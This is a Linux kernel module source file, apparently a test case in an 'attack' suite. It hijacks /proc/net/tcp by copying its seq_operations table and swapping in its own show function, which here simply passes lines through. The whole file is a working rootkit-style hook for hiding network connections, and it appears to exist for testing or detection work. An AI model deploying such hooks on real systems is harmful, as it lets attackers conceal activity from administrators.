// SPDX-License-Identifier: GPL-2.0-only
/*
 * Gives /proc/net/tcp's entry a copy of its table, on the heap, in which the function that
 * writes a line is this module's. Inodes are made from the entry, and the kernel's own
 * table stays as it is. The entry is found by what it has, as its type is private.
 */
#include <linux/fs.h>
#include <linux/namei.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/uaccess.h>

#include "attack.h"

#define WORDS 32

static const struct seq_operations *old;
static struct seq_operations *copy;
static const struct seq_operations **slot;

static int replacement(struct seq_file *file, void *socket)
{
	return old->show(file, socket);
}

/* The word among the first ones at @from that is @value; or NULL. */
static void *find_word(const unsigned long *from, unsigned long value)
{
	unsigned long word;
	size_t i;

	for (i = 0; i < WORDS; i++) {
		if (!get_kernel_nofault(word, from + i) && word == value)
			return (void *)(from + i);
	}
	return NULL;
}

/* Before an inode of /proc's stands, among other things, where its entry is. */
static void *find_slot(const struct inode *inode)
{
	const unsigned long *inode_words = (void *)inode;
	void *found = NULL;
	size_t i;

	for (i = 1; i < WORDS && !found; i++)
		found = find_word((void *)*(inode_words - i), (unsigned long)old);
	return found;
}

static int change(void)
{
	struct path path;
	int r = kern_path("/proc/net/tcp", LOOKUP_FOLLOW, &path);

	if (r)
		return r;
	old = (void *)attack_symbol("tcp4_seq_ops");
	slot = old ? find_slot(d_inode(path.dentry)) : NULL;
	path_put(&path);
	copy = slot ? kmemdup(old, sizeof(*old), GFP_KERNEL) : NULL;
	if (!copy)
		return -ENOENT;
	copy->show = replacement;
	*slot = copy;
	return 0;
}

/* The copy stays: somebody may have the file open. */
static void restore(void)
{
	copy->show = old->show;
	*slot = old;
}

ATTACK(change, restore, "an entry of /proc with its own table");
